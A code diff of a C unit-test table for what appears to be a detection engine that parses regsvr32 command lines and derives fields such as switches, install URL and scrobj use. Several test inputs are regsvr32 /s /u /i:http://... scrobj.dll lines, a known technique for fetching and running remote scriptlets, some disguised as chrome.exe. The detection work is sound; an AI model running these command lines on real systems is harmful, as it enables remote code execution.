@@ -18,14 +18,14 @@ static struct line_case cases[] = {
 	  "regsvr32.install_class=url\nregsvr32.install_place=-\n"
 	  "regsvr32.library=scrobj.dll\nregsvr32.library_name=scrobj\nregsvr32.library_extension=dll\n"
 	  "regsvr32.library_place=bare_system\nregsvr32.lawful=true\nregsvr32.scrobj=true\n"
-	  "regsvr32.shape=true\ntrick=-" },
+	  "trick=-" },
 	{ "a dash is as good as a slash, and only the first letter counts",
 	  "regsvr32 -silent -Unregister -install:HTTPS://a.example/x scrobj",
 	  "regsvr32.switch=s|u|i\nregsvr32.install=https://a.example/x\nregsvr32.install_class=url\n"
 	  "regsvr32.library_name=scrobj\nregsvr32.library_extension=none\nregsvr32.scrobj=true" },
 	{ "switches in one token are an attempt that is seen",
 	  "regsvr32 /s/u/i:http://a.example/x scrobj.dll",
-	  "regsvr32.switch=s|u|i\nregsvr32.install_class=url\nregsvr32.shape=true" },
+	  "regsvr32.switch=s|u|i\nregsvr32.install_class=url" },
 	{ "/su is one switch", "regsvr32 /su c:\\a.dll", "regsvr32.switch=s\nregsvr32.install_class=none" },
 	{ "order is free and several libraries are taken",
 	  "regsvr32 \"C:\\Program Files\\V\\v.dll\" /u scrobj.dll /i:\\\\h\\s\\x.sct /s",
@@ -93,7 +93,9 @@ static struct line_case cases[] = {
 	{ "an input file has not the shape", "conv.exe -i:in.png -o:out.png",
 	  "regsvr32.shape=false", "C:\\conv.exe" },
 	{ "a browser has no shape at all", "chrome.exe /s /u /i:http://h/x scrobj.dll",
-	  "regsvr32.shape=-", "C:\\chrome.exe" },
+	  "regsvr32.shape=-", "C:\\Program Files\\Google\\chrome.exe" },
+	{ "what calls itself a browser has one", "chrome.exe /s /u /i:http://h/x scrobj.dll",
+	  "regsvr32.shape=true", "C:\\chrome.exe" },
 };
 /* clang-format on */
 
@@ -105,7 +107,7 @@ static void check_line(void **state)
 	derived_init(&d);
 	derived_put(&d, SQ_F_IMAGE, tc->image ? tc->image : SYSTEM32);
 	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
-	sq_derive(&d.ev, &d.arena);
+	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
 	derived_check(&d, tc->want);
 	derived_fini(&d);
 }
